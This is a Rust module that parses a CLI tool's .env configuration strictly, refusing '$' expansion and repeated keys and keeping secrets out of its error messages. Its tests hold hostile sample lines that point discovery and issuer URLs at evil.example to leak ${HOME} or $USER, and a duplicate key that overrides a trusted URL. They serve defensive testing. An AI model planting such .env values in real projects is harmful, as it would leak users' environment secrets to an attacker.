//! Configuration from the environment and a `.env` file (SPEC §6 names).
//!
//! The environment wins over `.env`: a variable that is set, even to the
//! empty string, is never replaced by the file's value (an empty value then
//! means "the default"). A `.env` file in the working directory can name the
//! trusted provider and the acr mapping, so when one is read the CLI says so
//! on stderr, with the variables it supplied.

use std::collections::HashMap;
use std::path::Path;

use crate::error::CliError;
use crate::files::{MAX_DOTENV_BYTES, read_capped};
use crate::term::escape;

/// The default local issuer identifier.
pub(crate) const DEFAULT_ISSUER: &str = "https://issuer.local";

#[derive(Debug, Default)]
pub(crate) struct Env {
    /// Values given as command-line options: they win over everything.
    flags: HashMap<&'static str, String>,
    dotenv: HashMap<String, String>,
}

impl Env {
    /// Reads `.env` from the working directory if there is one (at most
    /// 64 KiB), and names it on stderr with the variables it supplies.
    /// `flags` are the variables given as command-line options.
    pub(crate) fn load(flags: HashMap<&'static str, String>) -> Result<Env, CliError> {
        let path = Path::new(".env");
        if !path.exists() {
            return Ok(Env {
                flags,
                ..Env::default()
            });
        }
        let bytes = read_capped(path, MAX_DOTENV_BYTES, "the .env file")?;
        let env = Env {
            flags,
            dotenv: parse_dotenv(&bytes)?,
        };
        let mut used: Vec<&str> = env
            .dotenv
            .keys()
            .filter(|k| std::env::var_os(k).is_none())
            .map(String::as_str)
            .collect();
        used.sort_unstable();
        let shown = std::env::current_dir().map_or_else(|_| path.to_owned(), |d| d.join(path));
        note!(
            "note: read configuration from {} ({}); variables set in the environment take precedence",
            escape(&shown.display().to_string()),
            if used.is_empty() {
                "nothing it sets is used".to_owned()
            } else {
                escape(&used.join(", ")).into_owned()
            }
        );
        Ok(env)
    }

    /// The variable `name`: the command-line option when given, then the
    /// environment when it is set there (even empty), otherwise `.env`; an
    /// empty or blank value is `None`.
    pub(crate) fn get(&self, name: &str) -> Option<String> {
        if let Some(value) = self.flags.get(name) {
            return Some(value.clone()).filter(|v| !v.trim().is_empty());
        }
        let value = match std::env::var(name) {
            Ok(value) => value,
            Err(std::env::VarError::NotPresent) => self.dotenv.get(name)?.clone(),
            // Set, but not UTF-8: set all the same, so `.env` does not win.
            Err(std::env::VarError::NotUnicode(_)) => return None,
        };
        Some(value).filter(|v| !v.trim().is_empty())
    }

    pub(crate) fn issuer(&self) -> String {
        self.get("AGENT_PASSPORT_ISSUER")
            .unwrap_or_else(|| DEFAULT_ISSUER.to_owned())
    }

    /// Where the local issuer's status list is published (the `uri` in each
    /// passport's `status` claim).
    pub(crate) fn status_uri(&self) -> String {
        self.get("AGENT_PASSPORT_STATUS_URI")
            .unwrap_or_else(|| format!("{}/status/1", self.issuer().trim_end_matches('/')))
    }
}

/// A `.env` file's variables, read strictly and taken as values: nothing
/// is expanded from the environment, nothing is written into it.
///
/// Each line is blank, a `#` comment, or `KEY=VALUE`, optionally after
/// `export `; KEY is letters, digits, `_` and `.`, not starting with a
/// digit or `.`. VALUE is on its line and is one of:
/// - nothing, or only a comment after whitespace: empty (the default);
/// - bare: no whitespace, quote, `\` or `$`, not starting with `#`;
/// - in single quotes: every character as written, `$` included;
/// - in double quotes: `\\`, `\"`, `\'`, `\$`, `\ ` and `\n` are escapes,
///   and a `$` is refused;
///
/// and only whitespace and a `# comment` may follow it. A key given on two
/// lines is refused naming both. Anything else is refused naming the line
/// (never quoting it: it may hold a secret).
///
/// Earlier versions read `.env` with dotenvy, which replaces `$VAR` and
/// `${VAR}` outside single quotes with the environment's values, and a
/// check in front of it read the lines differently (a value continued on a
/// second line, text after a closing single quote): a `.env` in a cloned
/// directory could copy a secret of the environment into a URL that
/// `login` fetches. A `$` outside single quotes is therefore refused, not
/// kept: a file written for dotenvy never silently means something else.
fn parse_dotenv(bytes: &[u8]) -> Result<HashMap<String, String>, CliError> {
    let text = std::str::from_utf8(bytes).map_err(|e| {
        let line = bytes[..e.valid_up_to()]
            .iter()
            .filter(|b| **b == b'\n')
            .count();
        refused(line + 1, None, Refusal::NotUtf8)
    })?;
    let mut out = HashMap::new();
    // the line each key is on: a key given twice is refused, so the line a
    // reader sees first is never overridden by one further down
    let mut lines: HashMap<&str, usize> = HashMap::new();
    for (n, line) in text.split('\n').enumerate() {
        if let Some((key, value)) =
            parse_line(line).map_err(|(key, why)| refused(n + 1, key, why))?
        {
            if let Some(first) = lines.insert(key, n + 1) {
                return Err(refused(n + 1, Some(key), Refusal::Repeated(first)));
            }
            out.insert(key.to_owned(), value);
        }
    }
    Ok(out)
}

/// Why a `.env` line is refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Refusal {
    NotUtf8,
    NotKeyValue,
    Dollar,
    Unclosed,
    AfterValue,
    Escape,
    Bare,
    /// The key is already set on this earlier line.
    Repeated(usize),
}

fn refused(line: usize, key: Option<&str>, why: Refusal) -> CliError {
    let of = key.map_or_else(String::new, |k| format!(" of {}", escape(k)));
    let what = match why {
        Refusal::NotUtf8 => "it is not UTF-8".to_owned(),
        Refusal::NotKeyValue => {
            "it is not KEY=VALUE (KEY: letters, digits, `_` and `.`, not starting with a digit or `.`), a `#` comment or blank".to_owned()
        }
        Refusal::Dollar => format!(
            "the value{of} contains `$` outside single quotes (.env values are never expanded from the environment)"
        ),
        Refusal::Unclosed => format!(
            "the value{of} opens a quote it does not close on the same line (a value is one line)"
        ),
        Refusal::AfterValue => {
            format!(
                "the value{of} is followed by more than a `# comment` (or has a space outside quotes)"
            )
        }
        Refusal::Escape => format!(
            "the value{of} has a `\\` escape other than \\\\, \\\", \\', \\$, \\ (space) and \\n"
        ),
        Refusal::Bare => {
            format!("the value{of} is not quoted and holds a quote or `\\`, or starts with `#`")
        }
        Refusal::Repeated(first) => format!(
            "the variable{of} is already set on line {first} (a variable is given once: which line wins would be hidden)"
        ),
    };
    // The message never quotes the line: it may hold a secret.
    let err = CliError::usage(
        "config",
        format!("cannot read the .env file in the working directory, line {line}: {what}"),
    );
    if why == Refusal::Dollar {
        err.hint("put the value in single quotes to keep a `$` as it is, e.g. NAME='a$b'")
    } else {
        err.hint(
            "write one KEY=VALUE per line; quote values with spaces or `#`, e.g. CSP_SCOPES=\"openid email\"",
        )
    }
}

/// A line's key and value.
type Variable<'a> = (&'a str, String);
/// Why a line is refused, with its key when it has one.
type LineRefusal<'a> = (Option<&'a str>, Refusal);

/// One line: `None` when blank or a comment.
fn parse_line(line: &str) -> Result<Option<Variable<'_>>, LineRefusal<'_>> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return Ok(None);
    }
    let line = match line.strip_prefix("export") {
        Some(rest) if rest.starts_with(char::is_whitespace) => rest.trim_start(),
        _ => line,
    };
    let end = line
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
        .unwrap_or(line.len());
    let (key, rest) = line.split_at(end);
    let value = rest.trim_start().strip_prefix('=');
    let (Some(value), Some(first)) = (value, key.chars().next()) else {
        return Err((None, Refusal::NotKeyValue));
    };
    if first.is_ascii_digit() || first == '.' {
        return Err((None, Refusal::NotKeyValue));
    }
    let value = parse_value(value).map_err(|why| (Some(key), why))?;
    Ok(Some((key, value)))
}

/// What follows `=`, up to the end of the line (trailing whitespace gone).
fn parse_value(after: &str) -> Result<String, Refusal> {
    // only a comment, after whitespace, may follow the value
    let comment_or_nothing = |tail: &str| {
        let rest = tail.trim_start();
        rest.is_empty() || (rest.len() < tail.len() && rest.starts_with('#'))
    };
    if comment_or_nothing(after) {
        return Ok(String::new());
    }
    let after = after.trim_start();
    let (value, tail) = if let Some(body) = after.strip_prefix('\'') {
        let end = body.find('\'').ok_or(Refusal::Unclosed)?;
        (body[..end].to_owned(), &body[end + 1..])
    } else if let Some(body) = after.strip_prefix('"') {
        double_quoted(body)?
    } else {
        let (bare, tail) = after.split_at(after.find(char::is_whitespace).unwrap_or(after.len()));
        if bare.contains('$') {
            return Err(Refusal::Dollar);
        }
        if bare.starts_with('#') || bare.contains(['\'', '"', '\\']) {
            return Err(Refusal::Bare);
        }
        (bare.to_owned(), tail)
    };
    if comment_or_nothing(tail) {
        Ok(value)
    } else {
        Err(Refusal::AfterValue)
    }
}

/// A double-quoted value after its opening quote: the value and what
/// follows the closing quote.
fn double_quoted(body: &str) -> Result<(String, &str), Refusal> {
    let mut value = String::new();
    let mut chars = body.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => return Ok((value, &body[i + 1..])),
            '$' => return Err(Refusal::Dollar),
            '\\' => match chars.next() {
                Some((_, e @ ('\\' | '"' | '\'' | '$' | ' '))) => value.push(e),
                Some((_, 'n')) => value.push('\n'),
                _ => return Err(Refusal::Escape),
            },
            c => value.push(c),
        }
    }
    Err(Refusal::Unclosed)
}

#[cfg(test)]
mod tests {
    use super::parse_dotenv;

    #[test]
    fn a_value_that_would_expand_the_environment_is_refused() {
        for hostile in [
            &b"CSP_DISCOVERY_URL=https://evil.example/?k=${HOME}\n"[..],
            b"CSP_DISCOVERY_URL=\"https://evil.example/?k=$HOME\"\n",
            b"export CSP_CLIENT_ID=$USER\n",
        ] {
            let err = parse_dotenv(hostile).unwrap_err();
            assert_eq!(err.code, "config", "{}", String::from_utf8_lossy(hostile));
        }
        // Single quotes keep `$` literally, and a comment may say anything.
        let env = parse_dotenv(b"# costs $5\nCSP_CLIENT_ID='a$b'\n").unwrap();
        assert_eq!(env["CSP_CLIENT_ID"], "a$b");
    }

    /// Re-review of 3727f964 (pre-existing: the dotenvy iterator fed a
    /// HashMap the same way): a variable given twice is taken silently,
    /// the LAST line winning. A reader of the file sees the first,
    /// harmless line; the one used is further down. A strict parser
    /// should refuse a key given twice, naming both lines.
    #[test]
    fn a_variable_given_twice_is_not_taken_silently() {
        let read = parse_dotenv(
            b"CSP_DISCOVERY_URL=https://idp.example/.well-known/openid-configuration\nA=1\nCSP_DISCOVERY_URL=https://evil.example/.well-known/openid-configuration\n",
        );
        assert!(
            read.is_err(),
            "taken silently: {:?}",
            read.ok().map(|env| env["CSP_DISCOVERY_URL"].clone())
        );
    }

    /// The refusal names both lines and the key, never a value; `export`
    /// does not make a second key.
    #[test]
    fn a_repeated_variable_is_refused_naming_both_lines() {
        let err = parse_dotenv(b"A=s3cret\n# note\nexport A=other\n").unwrap_err();
        assert_eq!(err.code, "config");
        assert!(
            err.message
                .contains("line 3: the variable of A is already set on line 1"),
            "{}",
            err.message
        );
        assert!(!err.message.contains("s3cret") && !err.message.contains("other"));
        // two different keys, a key that differs only in case, are fine
        let env = parse_dotenv(b"A=1\na=2\nA.B=3\n").unwrap();
        assert_eq!((env["A"].as_str(), env["a"].as_str()), ("1", "2"));
    }

    /// The message says what a key may hold, as the parser reads it.
    #[test]
    fn the_key_rule_in_the_message_is_the_parsers() {
        let env = parse_dotenv(b"spring.profile_1=x\n").unwrap();
        assert_eq!(env["spring.profile_1"], "x");
        for bad in [&b"1A=x\n"[..], b".A=x\n", b"A-B=x\n"] {
            let err = parse_dotenv(bad).unwrap_err();
            assert!(
                err.message.contains(
                    "KEY: letters, digits, `_` and `.`, not starting with a digit or `.`"
                ),
                "{}",
                err.message
            );
        }
    }

    #[test]
    fn dotenv_lines() {
        let env = parse_dotenv(
            b"# comment\nCSP_CLIENT_ID=abc\nexport CSP_SCOPES=\"openid email\"\nX='y z'\nY=1 # trailing\n",
        )
        .unwrap();
        assert_eq!(env["CSP_CLIENT_ID"], "abc");
        assert_eq!(env["CSP_SCOPES"], "openid email");
        assert_eq!(env["X"], "y z");
        assert_eq!(env["Y"], "1");
        assert_eq!(env.len(), 4);
    }

    #[test]
    fn a_quoted_value_with_a_comment_loses_quotes_and_comment() {
        let env = parse_dotenv(
            b"CSP_DISCOVERY_URL=\"http://127.0.0.1:9/.well-known/openid-configuration\" # the mock\n",
        )
        .unwrap();
        assert_eq!(
            env["CSP_DISCOVERY_URL"],
            "http://127.0.0.1:9/.well-known/openid-configuration"
        );
    }

    #[test]
    fn a_broken_line_is_a_config_error_that_does_not_quote_it() {
        let err = parse_dotenv(b"A=1\nCSP_CLIENT_SECRET=\"s3cret\n").unwrap_err();
        assert_eq!((err.exit, err.code), (2, "config"));
        assert!(!err.message.contains("s3cret"), "{}", err.message);
        assert!(err.hint.is_some());
    }

    /// Review S14: the ways around the check that stood in front of
    /// dotenvy (a value continued after its closing single quote, a
    /// double-quoted value continued on a second line, which may look like
    /// a comment) are refused, as is every other `$` outside single quotes.
    #[test]
    fn no_form_of_value_can_expand_the_environment() {
        for hostile in [
            "CSP_DISCOVERY_URL='https://evil/'${HOME}'/.well-known/openid-configuration'\n",
            "AGENT_PASSPORT_ISSUER='https://evil.example/?k='$HOME\n",
            "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\n${HOME}\"\n",
            "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\n#${HOME}\"\n",
            "AGENT_PASSPORT_ISSUER='https://evil.example/?k\n${HOME}'\n",
            "AGENT_PASSPORT_ISSUER=\"https://evil.example/?k\\\n${HOME}\"\n",
            "AGENT_PASSPORT_ISSUER=\"https://evil.example/\"$HOME\n",
            "AGENT_PASSPORT_ISSUER=https://evil.example/'$HOME'\n",
            "AGENT_PASSPORT_ISSUER=https://evil.example/\\$HOME\n",
        ] {
            let err = parse_dotenv(hostile.as_bytes()).unwrap_err();
            assert_eq!((err.exit, err.code), (2, "config"), "{hostile:?}");
            assert!(
                err.message.contains("line 1:"),
                "{hostile:?}: {}",
                err.message
            );
            assert!(
                !err.message.contains("evil"),
                "{hostile:?}: {}",
                err.message
            );
        }
        let err = parse_dotenv(b"A=1\n\n# $HOME\nB=\"x$HOME\"\n").unwrap_err();
        assert!(err.message.contains("line 4:"), "{}", err.message);
        assert!(
            err.message.contains("value of B contains `$`"),
            "{}",
            err.message
        );
        assert!(err.hint.unwrap().contains("single quotes"));
    }

    /// Every form the README documents (quotes, `# comments`, `export`)
    /// and dotenvy read without expanding anything reads the same.
    #[test]
    fn every_documented_form_is_read_as_before() {
        let env = parse_dotenv(
            concat!(
                "# comment\n",
                "\n",
                "   # an indented comment with $HOME\n",
                "CSP_CLIENT_ID=abc\n",
                "export CSP_SCOPES=\"openid email\"\n",
                "CSP_CLIENT_SECRET='a$b \"c\" #d\\n'\n",
                "CSP_ACR_MAPPING=\"C:\\\\acr.toml\" # a comment\n",
                "AGENT_PASSPORT_ISSUER=https://x.example/a#b\n",
                "EMPTY=\n",
                "COMMENTED= # nothing\n",
                "ESCAPED=\"a\\\"b\\$c\\nd\\'e\\ f\"\n",
                "CRLF=v\r\n",
                "  SPACED = 'x'  \n",
                "export=1\n",
                "A.B_2=3",
            )
            .as_bytes(),
        )
        .unwrap();
        for (key, value) in [
            ("CSP_CLIENT_ID", "abc"),
            ("CSP_SCOPES", "openid email"),
            ("CSP_CLIENT_SECRET", "a$b \"c\" #d\\n"),
            ("CSP_ACR_MAPPING", "C:\\acr.toml"),
            ("AGENT_PASSPORT_ISSUER", "https://x.example/a#b"),
            ("EMPTY", ""),
            ("COMMENTED", ""),
            ("ESCAPED", "a\"b$c\nd'e f"),
            ("CRLF", "v"),
            ("SPACED", "x"),
            ("export", "1"),
            ("A.B_2", "3"),
        ] {
            assert_eq!(env.get(key).map(String::as_str), Some(value), "{key}");
        }
        assert_eq!(env.len(), 12);
    }

    /// What is neither: refused, naming the line, never quoting it.
    #[test]
    fn anything_else_is_refused_naming_its_line() {
        for broken in [
            "KEY=#s3cret",
            "KEY=s3cret more",
            "KEY='s3cret'more",
            "KEY=\"s3cret\"more",
            "KEY=\"s3cret",
            "KEY='s3cret",
            "KEY=\"s3\\cret\"",
            "KEY=s3\\cret",
            "KEY=s3\"cret",
            "1KEY=s3cret",
            ".KEY=s3cret",
            "KEY s3cret",
            "export KEY",
            "=s3cret",
            "KEY-X=s3cret",
        ] {
            let err = parse_dotenv(format!("A=1\n{broken}\n").as_bytes()).unwrap_err();
            assert_eq!((err.exit, err.code), (2, "config"), "{broken}");
            assert!(err.message.contains("line 2:"), "{broken}: {}", err.message);
            assert!(!err.message.contains("s3cret"), "{broken}: {}", err.message);
            assert!(err.hint.unwrap().contains("KEY=VALUE"), "{broken}");
        }
        let err = parse_dotenv(b"A=1\nB=\xff\n").unwrap_err();
        assert!(
            err.message.contains("line 2: it is not UTF-8"),
            "{}",
            err.message
        );
    }

    #[test]
    fn reading_dotenv_never_writes_the_process_environment() {
        parse_dotenv(b"PASSPORT_TEST_NEVER_SET=1\n").unwrap();
        assert!(std::env::var_os("PASSPORT_TEST_NEVER_SET").is_none());
    }
}
